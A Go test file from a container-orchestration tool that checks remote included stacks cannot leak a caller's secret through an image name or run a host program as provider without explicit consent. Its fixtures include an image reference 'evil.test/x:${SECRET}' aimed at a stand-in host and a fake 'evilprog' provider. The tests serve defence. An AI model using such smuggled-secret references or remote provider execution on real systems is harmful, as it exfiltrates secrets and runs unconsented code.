package cmd_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/orlop/orlop/e2e/lab"
	"github.com/orlop/orlop/planner"
)

// newIncludingDesk is a desk with a stack that includes a remote one with this text.
func newIncludingDesk(t *testing.T, text string) *desk {
	t.Helper()
	registry, err := lab.NewRegistry()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(registry.Close)
	if _, err := registry.PublishStack("stacks/app:1", lab.StackFile{Kind: "file", Name: "compose.yaml", Content: text}); err != nil {
		t.Fatal(err)
	}
	d := newDesk(t, "name: shop\ninclude: ['oci://"+registry.Address()+"/stacks/app:1']\n").serve()
	d.engine.plan = &planner.Plan{Project: "shop"}
	d.env = append(d.env, "HOME="+t.TempDir())
	return d
}

// TestAPullTellsNoVariable without a yes: the name of an image goes to its registry.
//
// Risk remote include: a remote stack names a secret variable of the caller's in the name of an image, and has it pulled
// Held: pull asks as up does; the engine hears nothing before the yes
func TestAPullTellsNoVariable(t *testing.T) {
	d := newIncludingDesk(t, "services: {db: {image: 'evil.test/x:${SECRET}'}}\n")
	d.env = append(d.env, "SECRET=hunter2")
	if _, errs, code := d.run("pull"); code != 1 || !strings.Contains(errs, "caller_variable") || d.engine.apply != nil {
		t.Errorf("exit code %d: %s", code, errs)
	}
	if _, errs, code := d.run("pull --allow-remotes"); code != 0 || d.engine.apply == nil {
		t.Errorf("exit code %d: %s", code, errs)
	}
}

// TestNoVerbRunsARefusedProvider of a remote stack: neither where it alone is named, nor
// where what it provides is to be released.
//
// Risk remote include: a remote stack names a program of the host as provider, and a verb that only ends things runs it
// Held: no verb runs it without a yes; down and stop leave it out and say so
func TestNoVerbRunsARefusedProvider(t *testing.T) {
	d := newIncludingDesk(t, "services: {db: {provider: {type: evilprog, options: {exec: [touch]}}}, web: {image: x}}\n")
	bin := t.TempDir()
	ran := filepath.Join(bin, "ran")
	if err := os.WriteFile(filepath.Join(bin, "evilprog"), []byte("#!/bin/sh\necho \"$@\" >> "+ran+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	d.env = append(d.env, "PATH="+bin+":/usr/bin:/bin")
	for _, c := range []struct {
		line string
		code int
		says string
	}{
		{"up -d", 1, "nobody has allowed"}, {"up -d db", 1, "nobody has allowed"}, {"run --rm web true", 1, "nobody has allowed"},
		{"down", 0, "provider db is not asked to down"}, {"down db", 0, "provider db is not asked to down"},
		{"stop", 0, "provider db is not asked to stop"}, {"stop db", 0, "provider db is not asked to stop"},
	} {
		if _, errs, code := d.run(c.line); code != c.code || !strings.Contains(errs, c.says) {
			t.Errorf("%s: exit code %d: %s", c.line, code, errs)
		}
		if text, err := os.ReadFile(ran); err == nil {
			t.Errorf("%s ran the program with %s", c.line, text)
			os.Remove(ran)
		}
	}
	if _, errs, code := d.run("down --allow-remotes"); code != 0 || !strings.Contains(errs, "host_program") {
		t.Errorf("exit code %d: %s", code, errs)
	}
	if _, err := os.Stat(ran); err != nil {
		t.Error("what was allowed is not run")
	}
}
